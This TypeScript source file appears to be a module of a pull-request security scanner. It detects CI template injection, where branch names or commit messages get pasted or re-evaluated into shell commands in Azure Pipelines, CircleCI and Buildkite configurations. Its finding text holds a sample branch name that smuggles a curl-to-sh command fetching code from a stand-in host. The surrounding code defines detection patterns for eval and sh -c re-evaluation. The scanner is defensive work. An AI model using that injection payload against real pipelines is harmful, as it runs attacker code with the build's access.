import type { Severity } from '../../signal/schema.js';
import type { SnapshotContent, SnapshotFile } from '../../snapshot/pr-snapshot.js';
import type { KeyedFinding } from '../finding.js';
import { makeFinding } from '../finding.js';
import { baseNameOf } from '../util.js';
import { isJenkinsPath, isPipelinePath } from './pipelines.js';

/**
 * Template injection in other CI systems' pipelines (ci-template-injection, docs/findings.md): text
 * an outsider writes (a branch name, a commit message) pasted into a command by the CI system before
 * a shell reads it, so that quotes and `$(…)` in the text become code:
 *
 * - Azure Pipelines' macros `$(System.PullRequest.SourceBranch)`, `$(System.PullRequest.SourceBranchName)`,
 *   `$(Build.SourceVersionMessage)` in `script:`, `bash:`, `powershell:`, `pwsh:` steps and a task's
 *   inline script: macro syntax is replaced in the step's text before the step runs.
 * - CircleCI's `<< pipeline.git.branch >>` in a `run:` command, and `<< parameters.NAME >>` where a
 *   job or command parameter NAME is given `<< pipeline.git.branch >>`: config templating inserts it
 *   when the configuration is compiled.
 * - Buildkite's `$BUILDKITE_MESSAGE` / `$BUILDKITE_BRANCH` in a pipeline file's `command:`:
 *   `buildkite-agent pipeline upload` interpolates the file's variables before the steps exist; `$$`
 *   (or `\$`) leaves the variable to the step's shell.
 * - The same text read as a variable by the shell (`$CI_COMMIT_MESSAGE`, `$CI_MERGE_REQUEST_TITLE`,
 *   `$CI_COMMIT_BRANCH`, `$SYSTEM_PULLREQUEST_SOURCEBRANCH`, `$CIRCLE_BRANCH`…) is data, the safe form,
 *   unless the command evaluates it again: `eval "… $CI_COMMIT_MESSAGE"`, `sh -c "… $VAR"`,
 *   `echo "$VAR" | sh`.
 *
 * Line by line, with the keys each line sits under (by indentation); what the head has and the base
 * had not (by the line's text) is reported. Linear in the file's size, at most MAX_LINES lines.
 */

const MAX_LINES = 5_000;
const MAX_LINE = 2_000;

const AZURE = /^\.azure-pipelines\/|(?:^|\/)azure-pipelines[\w.-]{0,60}\.ya?ml$/i;
const CIRCLE = /^\.circleci\//i;
const BUILDKITE = /^\.buildkite\//i;

/** Keys whose text a shell (or PowerShell) runs. */
const COMMAND_KEY = /^(?:scripts?|commands?|run|pwsh|powershell|bash|sh|inlineScript|inline|[\w-]{1,80}_script)$/;
const KEY = /^\s*(?:-\s+)?['"]?([A-Za-z_][\w.-]{0,80})['"]?\s*:(?:\s|$)/;

const AZURE_MACRO = /\$\((System\.PullRequest\.SourceBranch(?:Name)?|Build\.SourceVersionMessage)\)/i;
const CIRCLE_BRANCH = /<<\s*pipeline\.git\.branch\s*>>/;
const CIRCLE_PARAMETER = /<<\s*parameters\.([\w-]{1,80})\s*>>/g;
/** `$BUILDKITE_MESSAGE`, `${BUILDKITE_BRANCH}`, not `$$BUILDKITE_…` or `\$BUILDKITE_…` (left to the shell). */
const BUILDKITE_VARIABLE = /(?<![$\\])\$\{?(BUILDKITE_MESSAGE|BUILDKITE_BRANCH)\b/;

/** Environment variables holding an outsider's branch name, commit message or title, by CI system. */
const OUTSIDER_VARIABLES =
  'CI_COMMIT_MESSAGE|CI_COMMIT_TITLE|CI_COMMIT_DESCRIPTION|CI_COMMIT_BRANCH|CI_COMMIT_REF_NAME|CI_MERGE_REQUEST_TITLE|CI_MERGE_REQUEST_DESCRIPTION|CI_MERGE_REQUEST_SOURCE_BRANCH_NAME|' +
  'SYSTEM_PULLREQUEST_SOURCEBRANCH|BUILD_SOURCEVERSIONMESSAGE|CIRCLE_BRANCH|BUILDKITE_MESSAGE|BUILDKITE_BRANCH|BITBUCKET_BRANCH|DRONE_COMMIT_MESSAGE|DRONE_COMMIT_BRANCH|DRONE_SOURCE_BRANCH|CI_COMMIT_SOURCE_BRANCH';
/**
 * The variable evaluated again: inside a double-quoted or bare argument of `eval` or `sh -c`
 * (single quotes leave it to the inner shell, as data), or echoed into a shell.
 */
const EVALUATED = new RegExp(
  [
    String.raw`(?:^|[;&|({\s])eval\s+(?:"[^"\n]{0,300}?|[^'"\s;|&]{0,300}?)\$\{?(${OUTSIDER_VARIABLES})\b`,
    String.raw`\b(?:ba|z|da|k)?sh\s+-\w{0,4}c\s+(?:"[^"\n]{0,300}?|[^'"\s;|&]{0,300}?)\$\{?(${OUTSIDER_VARIABLES})\b`,
    String.raw`\b(?:echo|printf)\s+(?:-\w{1,4}\s+)?["']?\$\{?(${OUTSIDER_VARIABLES})\}?["']?\s*\|\s*(?:ba|z|da|k)?sh\b`,
  ].join('|'),
);

interface Hit {
  readonly line: number;
  readonly text: string;
  readonly what: string;
  readonly how: 'pasted' | 'evaluated';
}

function system(path: string): 'azure' | 'circleci' | 'buildkite' | 'other' {
  if (AZURE.test(path)) return 'azure';
  if (CIRCLE.test(path)) return 'circleci';
  if (BUILDKITE.test(path)) return 'buildkite';
  return 'other';
}

/** Where a line starts (its dash, for a list item) and where its key would start (after the dash). */
function columnsOf(line: string): { line: number; key: number } {
  const indent = line.length - line.trimStart().length;
  const dash = /^\s*-\s+/.exec(line);
  return { line: indent, key: dash === null ? indent : dash[0].length };
}

/** CircleCI parameters given the branch name: `branch: << pipeline.git.branch >>` outside a command. */
function circleBranchParameters(lines: readonly string[]): Set<string> {
  const names = new Set<string>();
  for (const line of lines) {
    if (!CIRCLE_BRANCH.test(line)) continue;
    const key = KEY.exec(line)?.[1];
    if (key !== undefined && !COMMAND_KEY.test(key)) names.add(key.toLowerCase());
  }
  return names;
}

function hitsIn(path: string, text: string): Hit[] {
  const kind = system(path);
  const lines = text.split('\n').slice(0, MAX_LINES).map((l) => l.slice(0, MAX_LINE));
  const parameters = kind === 'circleci' ? circleBranchParameters(lines) : new Set<string>();
  const stack: { indent: number; key: string }[] = [];
  const hits: Hit[] = [];
  lines.forEach((line, index) => {
    const trimmed = line.trim();
    if (trimmed === '' || trimmed.startsWith('#')) return;
    // A key belongs to the keys above it that start left of the line (a list item's dash ends the previous item).
    const columns = columnsOf(line);
    while (stack.length > 0 && stack[stack.length - 1]!.indent >= columns.line) stack.pop();
    const key = KEY.exec(line)?.[1];
    const inCommand = (key !== undefined && COMMAND_KEY.test(key)) || stack.some((s) => COMMAND_KEY.test(s.key)) || (kind === 'azure' && stack.some((s) => s.key === 'inputs') && key !== undefined && /^(?:script|inlineScript|arguments)$/.test(key));
    if (key !== undefined) stack.push({ indent: columns.key, key });
    if (!inCommand) return;
    const found = (what: string, how: Hit['how']) => hits.push({ line: index + 1, text: trimmed, what, how });
    if (kind === 'azure') {
      const macro = AZURE_MACRO.exec(line);
      if (macro !== null) return found(`$(${macro[1]})`, 'pasted');
    } else if (kind === 'circleci') {
      if (CIRCLE_BRANCH.test(line)) return found('<< pipeline.git.branch >>', 'pasted');
      for (const m of line.matchAll(CIRCLE_PARAMETER)) if (parameters.has(m[1]!.toLowerCase())) return found(`<< parameters.${m[1]} >> (given << pipeline.git.branch >>)`, 'pasted');
    } else if (kind === 'buildkite') {
      const variable = BUILDKITE_VARIABLE.exec(line);
      if (variable !== null) return found(`$${variable[1]}`, 'pasted');
    }
    const evaluated = EVALUATED.exec(line);
    if (evaluated !== null) found(`$${evaluated.slice(1).find((g) => g !== undefined) ?? ''}`, 'evaluated');
  });
  return hits;
}

/** Azure Pipelines builds pull requests unless the file says `pr: none` (or `pr: []`, `pr: false`). */
function buildsPullRequests(path: string, text: string): boolean {
  if (system(path) !== 'azure') return true;
  return !/^pr:\s*(?:none|\[\s*\]|false)\s*(?:#.*)?$/m.test(text);
}

export function pipelineInjectionFindings(file: SnapshotFile, content: SnapshotContent | undefined): KeyedFinding[] {
  if (file.status === 'removed' || !isPipelinePath(file.path) || isJenkinsPath(file.path) || content?.head == null) return [];
  const head = hitsIn(file.path, content.head);
  if (head.length === 0) return [];
  const key = (h: Hit) => `${h.what}\u0000${h.text}`;
  const before = new Set(content.base == null ? [] : hitsIn(file.previousPath ?? file.path, content.base).map(key));
  const severity: Severity = buildsPullRequests(file.path, content.head) ? 'high' : 'medium';
  const name = { azure: 'Azure Pipelines', circleci: 'CircleCI', buildkite: 'Buildkite', other: 'The CI system' }[system(file.path)];
  const findings: KeyedFinding[] = [];
  const seen = new Set<string>();
  for (const hit of head) {
    if (before.has(key(hit)) || seen.has(key(hit))) continue;
    seen.add(key(hit));
    const why =
      hit.how === 'pasted'
        ? `${name} replaces ${hit.what} with its text before the shell reads the command`
        : `the shell expands ${hit.what} and then evaluates the result again as a command (\`eval\`, \`sh -c "…"\`, \`| sh\`)`;
    findings.push(
      makeFinding({
        id: 'ci-template-injection',
        severity,
        title: hit.how === 'pasted' ? `${hit.what} is pasted into a command of ${baseNameOf(file.path)}` : `${hit.what} is evaluated as code in ${baseNameOf(file.path)}`,
        detail:
          `\`${hit.text.slice(0, 160)}\`: ${why}. Whoever names the branch or writes the commit message of a pull request chooses that text: a branch named \`x";curl${'${IFS}'}-sSfL${'${IFS}'}evil.example|sh;#\` becomes a command of the pipeline, with what its build can reach. ` +
          'Fix: read the value as an environment variable, quoted ("$SYSTEM_PULLREQUEST_SOURCEBRANCH", "$CIRCLE_BRANCH", "$$BUILDKITE_BRANCH"), and never evaluate it.',
        path: file.path,
        line: hit.line,
        subject: `${hit.what}:${hit.text}`,
      }),
    );
  }
  return findings;
}
